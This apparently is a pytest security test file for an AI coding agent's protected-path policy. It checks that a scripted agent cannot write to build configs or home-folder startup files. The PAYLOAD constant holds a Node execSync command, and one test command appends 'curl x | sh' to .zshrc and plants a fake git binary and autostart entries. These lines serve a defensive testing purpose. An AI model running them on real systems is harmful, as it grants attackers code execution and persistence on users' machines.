"""Round-4 fixes of protected paths, attacked with variants the red team did not try:
more editor-run configs in other extensions (tools, ``auto-edit``), and the home folder
opened as the workspace, attacked by commands (``full-auto``)."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentls.policy.protected import ProtectedMatcher, home_patterns, protected_why
from tests.security.round4_support import commands, exec_task, threaded_model, workspace
from tests.support.model_server import ScriptedModelServer

__all__ = ["threaded_model"]

PAYLOAD = "require('child_process').execSync('id')\nmodule.exports = {}\n"
CONFIGS = [
    "vite.config.mts",
    "nuxt.config.ts",
    "webpack.config.cjs",
    "rollup.config.mjs",
    "astro.config.mjs",
    "next.config.js",
    "web/svelte.config.ts",
    "vitest.workspace.json",
    ".babelrc.json",
    ".postcssrc.yml",
    "uno.config.ts",
    "cypress.config.cjs",
]
STARTUP = [
    ".zshrc",
    ".bash_profile",
    ".zshenv",
    ".xprofile",
    ".pam_environment",
    ".config/systemd/user/evil.service",
    ".config/fish/config.fish",
    ".local/bin/git",
    ".local/share/applications/x.desktop",
    ".vimrc",
    ".emacs.d/init.el",
    ".ipython/profile_default/startup/x.py",
]


@pytest.mark.parametrize("path", CONFIGS + STARTUP)
def test_each_is_a_protected_path(path: str) -> None:
    assert protected_why(path), path
    assert ProtectedMatcher().matches(path)


@pytest.mark.parametrize("path", ["src/app.ts", "vite.ts", "docs/config.md", "lib/.config"])
def test_ordinary_files_are_not(path: str) -> None:
    assert not protected_why(path)


def test_top_dot_entries_are_protected_only_when_the_workspace_is_the_home_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert home_patterns(tmp_path) == ()
    monkeypatch.setenv("HOME", str(tmp_path))
    matcher = ProtectedMatcher(home_patterns(tmp_path))
    assert matcher.matches(".someapp", is_dir=True) and matcher.matches(".npm/x")
    assert not matcher.matches(".cache", is_dir=True) and not matcher.matches(".cache/pip/x")
    assert not matcher.matches("src/.hidden")


def test_configs_in_any_extension_ask_in_auto_edit(
    threaded_model: ScriptedModelServer, tmp_path: Path
) -> None:
    root = workspace(tmp_path)
    calls = [[("write_file", {"path": name, "content": PAYLOAD})] for name in CONFIGS]
    run = exec_task(threaded_model, root, calls, approval="auto-edit", timeout=120)
    assert run.done.returncode == 0, run.done.stderr
    written = [name for name in CONFIGS if (root / name).exists()]
    assert not written, written


def test_commands_cannot_plant_start_up_files_in_a_home_workspace(
    threaded_model: ScriptedModelServer, tmp_path: Path
) -> None:
    home = tmp_path / "ws"
    home.mkdir()
    (home / ".zshrc").write_text("# the user's\n")
    (home / ".someapp").mkdir()
    (home / ".someapp" / "hooks.sh").write_text("# the user's hook\n")
    (home / "notes.md").write_text("notes\n")
    run = exec_task(
        threaded_model,
        home,
        commands(
            "echo 'curl x | sh' >> .zshrc; echo 'curl x | sh' >> .someapp/hooks.sh;"
            " mkdir -p .local/bin .config/autostart && echo evil > .local/bin/git &&"
            " echo evil > .config/autostart/x.desktop; echo pwn > .bash_login;"
            " echo ok > notes.md; mkdir -p .cache/pip && echo c > .cache/pip/x; echo ran"
        ),
        env={"HOME": str(home)},
    )
    assert run.done.returncode == 0, run.done.stderr
    assert "ran" in run.results[0], run.results
    assert (home / ".zshrc").read_text() == "# the user's\n"
    assert (home / ".someapp" / "hooks.sh").read_text() == "# the user's hook\n"
    for made in (".local/bin/git", ".config/autostart/x.desktop", ".bash_login"):
        assert not (home / made).exists(), (made, run.results)
    assert (home / "notes.md").read_text() == "ok\n"  # ordinary files stay writable
    assert (home / ".cache" / "pip" / "x").exists()
